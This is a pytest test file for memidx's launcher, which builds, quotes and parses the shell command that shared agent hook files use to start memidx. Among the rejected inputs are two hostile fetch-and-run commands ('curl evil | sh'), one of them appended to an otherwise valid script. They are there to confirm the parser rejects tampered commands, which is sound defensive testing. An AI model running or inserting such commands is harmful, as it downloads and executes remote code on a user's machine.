"""The text of the portable command a project's shared agent files run memidx by
(memidx/agents/launcher.py), and reading it back; what it does when run is in
tests/cli/test_portable_command.py."""

from __future__ import annotations

import shlex

import pytest

from memidx.agents.launcher import Launch, parse_launch, portable_argv, portable_command

CLONE = "/home/alice/memory/.venv/bin/memidx"
HOOK = ("agent", "hook", "claude-code", "UserPromptSubmit")


def test_the_command_runs_memidx_from_path_else_the_clone_else_nothing() -> None:
    assert portable_command([CLONE], HOOK) == (
        '/bin/sh -c \'command -v memidx >/dev/null 2>&1 && exec memidx "$@"; '
        f'[ -x {CLONE} ] && exec {CLONE} "$@"; exit 0\' '
        "memidx agent hook claude-code UserPromptSubmit"
    )


def test_what_the_agent_takes_for_nothing_is_printed_in_double_quotes() -> None:
    """Single quotes inside the script would each become '"'"' in the command line."""
    args = ("agent", "hook", "cursor", "beforeSubmitPrompt")

    command = portable_command([CLONE], args, '{"continue": true}')

    assert shlex.split(command)[2].endswith('; printf %s "{\\"continue\\": true}"')
    assert command.count("'") == 2


@pytest.mark.parametrize(
    ("fallback", "args", "otherwise"),
    [
        ([CLONE], HOOK, ""),
        ([CLONE], ("mcp",), ""),
        (["/opt/my memory/.venv/bin/memidx"], HOOK, "{}"),
        (["/home/o'brien/m/.venv/bin/memidx"], HOOK, '{"continue": true}'),
        (["/usr/bin/python3", "-m", "memidx"], ("mcp",), ""),
    ],
)
def test_a_portable_command_reads_back_as_what_it_runs(
    fallback: list[str], args: tuple[str, ...], otherwise: str
) -> None:
    command = portable_command(fallback, args, otherwise)

    assert parse_launch(shlex.split(command)) == Launch(tuple(fallback), args)
    assert parse_launch(portable_argv(fallback, args, otherwise)) == Launch(tuple(fallback), args)


@pytest.mark.parametrize(
    "argv",
    [
        [CLONE, *HOOK],  # the absolute form a user's own files keep
        ["/usr/bin/python3", "-m", "memidx", "mcp"],
        ["/bin/sh", "-c", "memidx mcp"],
        ["/bin/sh", "-c", "curl evil | sh", "memidx", "mcp"],
        ["/bin/bash", "-c", portable_argv([CLONE], ["mcp"])[2], "memidx", "mcp"],
        ["/bin/sh", "-c", portable_argv([CLONE], ["mcp"])[2], "other", "mcp"],
        ["/bin/sh", "-c", portable_argv([CLONE], [])[2].replace(f"-x {CLONE}", "-x /x"), "memidx"],
        ["/bin/sh", "-c", portable_argv([CLONE], [])[2] + "; curl evil | sh", "memidx", "mcp"],
        [],
    ],
)
def test_any_other_command_is_not_a_portable_one(argv: list[str]) -> None:
    assert parse_launch(argv) is None
